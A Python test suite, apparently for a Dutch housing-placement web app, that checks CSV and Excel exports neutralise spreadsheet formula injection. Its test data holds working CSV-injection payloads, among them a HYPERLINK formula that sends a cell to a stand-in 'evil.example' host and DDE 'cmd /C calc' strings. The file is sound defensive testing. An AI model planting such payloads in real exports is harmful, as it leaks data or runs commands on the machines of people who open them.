"""Formula injection (issue 12 'Beveiliging'): a text that starts like a formula is written by
one role and downloaded by every reader. Planted through the real services and views in every
free-text field a role can write, it must come out of every CSV and Excel export inert: no
formula cell, no text cell or CSV field that starts with =, +, -, @, tab or carriage return
(OWASP CSV injection). Numbers stay numbers, also negative ones."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from bemiddeling.models import Aanbod, Actie, Actieplan
from bemiddeling.services import aanbod as aanbod_diensten
from bemiddeling.services import plan as plan_diensten
from bemiddeling.services.aanbod import Aanbodcijfers
from kern.perioden import Maand
from organisaties.models import Corporatie, Werkgebied
from prognose import services as prognose_diensten
from prognose.rekenen.scenario import Parameters
from taakstelling.models import Realisatie, Taakstelling, Trede
from taakstelling.services import taakstelling as taakstelling_diensten
from taakstelling.services.importeren import import_controleren, lees_bestand
from taakstelling.services.realisatie import Regelinvoer, realisatie_maand_opslaan
from taakstelling.toezicht import services as toezicht
from tests.bemiddeling.plan.hulp import juni_2023

__all__ = ["juni_2023"]

GEVAARLIJK = ("=", "+", "-", "@", "\t", "\r")
# A number as the CSV writes it (Dutch decimal comma): may start with '-', it is no formula.
GETAL = re.compile(r"-?\d+(,\d+)?")

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
PLANT = {
    "besluit": HYPERLINK,
    "eigenaar": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reden_realisatie": "-2+3+cmd|' /C calc'!A0",
    "reden_taakstelling": '+HYPERLINK("http://evil.example/t")',
    "bron_taakstelling": "=1+1 bron",
    "reden_bijstelling": "@bijstelling",
    "reden_ibt": "=ibt()",
    "grond_ibt": "+grond",
    "omschrijving_mijlpaal": "-mijlpaal",
    "reden_mijlpaal": "=mijlpaal()",
    "omschrijving_actie": "=actie()",
    "toelichting_actie": "+toelichting",
    "reden_actie": "@actie",
    "reden_aanbod": "-aanbod",
    "scenario_naam": "=scenario",
    "scenario_omschrijving": "@scenario",
}
LEZERS = ["opgaveteam_a", "corporatie_a", "provincie_a", "taskforce_a", "beheerder"]
OVERLEG = "/gemeenten/GM0034/overleg/?datum=2023-06-15&formaat="
REALISATIE = [
    "/gemeenten/GM0034/realisatie/export.csv",
    "/gemeenten/GM0034/realisatie/export.xlsx",
    "/gemeenten/GM0034/realisatie/sjabloon.csv?maand=2023-05",
    "/gemeenten/GM0034/realisatie/sjabloon.xlsx?maand=2023-05",
]


def _planten(demo) -> None:
    opgaveteam, provincie = demo.user("opgaveteam_a"), demo.user("provincie_a")
    # Through the view, as the browser posts it.
    antwoord = demo.client("opgaveteam_a").post(
        "/gemeenten/GM0034/overleg/besluiten/",
        {"datum": "2023-06-15", "tekst": PLANT["besluit"], "eigenaar": PLANT["eigenaar"]},
    )
    assert antwoord.status_code == 302
    ymere = Realisatie.objects.get(
        gemeente=demo.almere, maand=date(2023, 4, 1), bron="regulier", corporatie=demo.ymere
    )
    realisatie_maand_opslaan(
        gemeente=demo.almere,
        maand=Maand(2023, 4),
        regels_in=[Regelinvoer(("regulier", "ymere"), "7", "7", "3", versie=ymere.versie)],
        koppeling=None,
        door=opgaveteam,
        reden=PLANT["reden_realisatie"],
    )
    t = Taakstelling.objects.get(gemeente=demo.almere, jaar=2023, helft=2)
    taakstelling_diensten.taakstelling_wijzigen(
        taakstelling=t,
        aantal=t.aantal + 1,
        bron=PLANT["bron_taakstelling"],
        door=opgaveteam,
        versie=t.versie,
        reden=PLANT["reden_taakstelling"],
    )
    taakstelling_diensten.bijstelling_vastleggen(
        taakstelling=t,
        datum=date(2023, 6, 1),
        aantal=350,
        reden=PLANT["reden_bijstelling"],
        door=opgaveteam,
    )
    toezicht.ibt_status_vastleggen(
        gemeente=demo.almere,
        trede=Trede.objects.get(provincie=demo.flevoland, nummer=4),
        sinds=date(2023, 6, 1),
        reden=PLANT["reden_ibt"],
        verschoonbaar=True,
        verschoonbaar_grond=PLANT["grond_ibt"],
        door=provincie,
        huidig_id=toezicht.huidige_status(demo.almere).pk,
    )
    toezicht.mijlpaal_vastleggen(
        gemeente=demo.almere,
        datum=date(2024, 3, 1),
        doel=450,
        startdatum=date(2023, 1, 1),
        omschrijving=PLANT["omschrijving_mijlpaal"],
        reden=PLANT["reden_mijlpaal"],
        door=provincie,
    )
    plan = Actieplan.objects.get(gemeente=demo.almere, geldig_vanaf=date(2023, 5, 1))
    actie = Actie.objects.select_related("actieplan", "gemeente").get(actieplan=plan, type_id="amv")
    plan_diensten.actie_wijzigen(
        actie=actie,
        eigenaar_corporatie=None,
        status=actie.status,
        bezetting=Decimal("1.5"),
        resultaat_toelichting=PLANT["toelichting_actie"],
        omschrijving=PLANT["omschrijving_actie"],
        door=opgaveteam,
        versie=actie.versie,
        reden=PLANT["reden_actie"],
    )
    aanbod = Aanbod.objects.filter(
        corporatie=demo.ymere, gemeente=demo.almere, maand=date(2023, 4, 1)
    ).first()
    aanbod_diensten.aanbod_registreren(
        corporatie=demo.ymere,
        gemeente=demo.almere,
        maand=Maand(2023, 4),
        cijfers=Aanbodcijfers(31, 5, 4, 2, 10, 6),
        door=demo.user("corporatie_a"),
        versie=aanbod.versie if aanbod else None,
        reden=PLANT["reden_aanbod"],
    )
    prognose_diensten.scenario_opslaan(
        gemeente=demo.almere,
        naam=PLANT["scenario_naam"],
        omschrijving=PLANT["scenario_omschrijving"],
        parameters=Parameters(bezetting=Decimal("2")),
        door=opgaveteam,
    )


def _cellen_xlsx(inhoud: bytes) -> list:
    boek = load_workbook(io.BytesIO(inhoud))
    return [cel for blad in boek.worksheets for rij in blad.iter_rows() for cel in rij]


def _velden_csv(inhoud: bytes) -> list[str]:
    tekst = inhoud.decode("utf-8-sig")
    scheiding = ";" if tekst.split("\r\n", 1)[0].count(";") else ","
    return [v for rij in csv.reader(io.StringIO(tekst), delimiter=scheiding) for v in rij]


def _onschadelijk_xlsx(inhoud: bytes) -> list[str]:
    """Every text in the workbook; fails on a formula or a dangerous start."""
    teksten = []
    for cel in _cellen_xlsx(inhoud):
        assert cel.data_type != "f", (cel.coordinate, cel.value)
        if isinstance(cel.value, str):
            assert cel.data_type == "s"
            assert not cel.value.startswith(GEVAARLIJK), (cel.coordinate, cel.value)
            teksten.append(cel.value)
    return teksten


def _onschadelijk_csv(inhoud: bytes) -> list[str]:
    velden = _velden_csv(inhoud)
    for veld in velden:
        assert GETAL.fullmatch(veld) or not veld.startswith(GEVAARLIJK), veld
    return velden


@pytest.mark.usefixtures("juni_2023")
def test_no_planted_formula_survives_any_export_for_any_reader(demo):
    _planten(demo)
    gezien: set[str] = set()
    for persona in LEZERS:
        client = demo.client(persona)
        xlsx = client.get(OVERLEG + "xlsx")
        assert xlsx.status_code == 200, persona
        teksten = _onschadelijk_xlsx(xlsx.content)
        besluiten = load_workbook(io.BytesIO(xlsx.content))["Besluiten"]
        assert besluiten["B3"].value == "'" + HYPERLINK  # the OWASP prefix, stored as text
        assert besluiten["C3"].value == "'" + PLANT["eigenaar"]
        antwoord = client.get(OVERLEG + "csv")
        assert antwoord.status_code == 200, persona
        teksten += _onschadelijk_csv(antwoord.content)
        for pad in REALISATIE:
            antwoord = client.get(pad)
            assert antwoord.status_code == 200, (persona, pad)
            if pad.split("?")[0].endswith(".xlsx"):
                teksten += _onschadelijk_xlsx(antwoord.content)
            else:
                teksten += _onschadelijk_csv(antwoord.content)
        gezien |= {naam for naam, tekst in PLANT.items() if any(tekst in t for t in teksten)}
    # The test plants where the exports read: each text came out (neutralised), or the field
    # is in no export at all (said here, so a new export column gets checked too).
    assert gezien == set(PLANT) - NIET_IN_EEN_EXPORT


NIET_IN_EEN_EXPORT: set[str] = set()


@pytest.mark.usefixtures("juni_2023")
def test_a_negative_number_stays_a_number(demo):
    """The month table's saldo and 'nog te huisvesten' may be negative: numbers, unescaped."""
    from rapportage.exports import csv as csv_export
    from rapportage.exports import xlsx as xlsx_export
    from rapportage.exports.pakket import GETAL as SOORT_GETAL
    from rapportage.exports.pakket import TEKST, Pakket, Sectie

    sectie = Sectie("proef", "Proef", [("Naam", TEKST), ("Aantal (personen)", SOORT_GETAL)])
    sectie.rijen = [["-3 is tekst", -3], ["Saldo", Decimal("-2.5")]]
    pakket = Pakket("Almere", "GM0034", date(2023, 6, 1), date(2023, 6, 1), False, [sectie])
    blad = load_workbook(io.BytesIO(xlsx_export.werkmap(pakket)))["Proef"]
    assert (blad["A3"].value, blad["B3"].value, blad["B3"].data_type) == ("'-3 is tekst", -3, "n")
    assert (blad["B4"].value, blad["B4"].data_type) == (-2.5, "n")
    rijen = list(
        csv.reader(io.StringIO(csv_export.bestand(pakket).decode("utf-8-sig")), delimiter=";")
    )
    assert ["proef", "'-3 is tekst", "Aantal", "-3", "personen"] in rijen
    assert ["proef", "Saldo", "Aantal", "-2,5", "personen"] in rijen


def test_a_corporatie_slug_starting_with_a_dash_is_neutralised_and_imports_back(demo, client):
    """The realisation export writes codes, not free text; a slug may still start with '-'
    (a beheerder names corporaties). Exported inert, our own import reads it back unchanged."""
    corporatie = Corporatie.objects.create(naam="Streepje", slug="-streepje")
    Werkgebied.objects.create(corporatie=corporatie, gemeente=demo.almere)
    Realisatie.objects.create(
        gemeente=demo.almere,
        maand=date(2023, 3, 1),
        bron_id="regulier",
        corporatie=corporatie,
        personen_gehuisvest=2,
        personen_tellend=2,
        woningen=1,
    )
    client.force_login(demo.user("opgaveteam_a"))
    for formaat in ("csv", "xlsx"):
        inhoud = client.get(f"/gemeenten/GM0034/realisatie/export.{formaat}").content
        teksten = (_onschadelijk_csv if formaat == "csv" else _onschadelijk_xlsx)(inhoud)
        assert "'-streepje" in teksten
        plan = import_controleren(
            regels=lees_bestand(f"export.{formaat}", inhoud),
            door=demo.user("opgaveteam_a"),
            vandaag=date(2023, 6, 15),
        )
        assert plan.fouten == []
        assert plan.aantallen == {
            "nieuw": 0,
            "gewijzigd": 0,
            "ongewijzigd": Realisatie.objects.filter(gemeente=demo.almere).count(),
        }


@pytest.mark.usefixtures("juni_2023")
def test_a_control_character_in_a_text_does_not_break_the_excel_export(demo):
    """A bell or other control character (pasted along) cannot be stored in Excel: openpyxl
    refused the whole workbook, so every reader got a server error instead of the pack."""
    antwoord = demo.client("opgaveteam_a").post(
        "/gemeenten/GM0034/overleg/besluiten/",
        {"datum": "2023-06-15", "tekst": "Bel\x07 de corporatie", "eigenaar": "=\x01Wethouder"},
    )
    assert antwoord.status_code == 302
    xlsx = demo.client("taskforce_a").get(OVERLEG + "xlsx")
    assert xlsx.status_code == 200
    besluiten = load_workbook(io.BytesIO(xlsx.content))["Besluiten"]
    assert (besluiten["B3"].value, besluiten["C3"].value) == ("Bel de corporatie", "'=Wethouder")
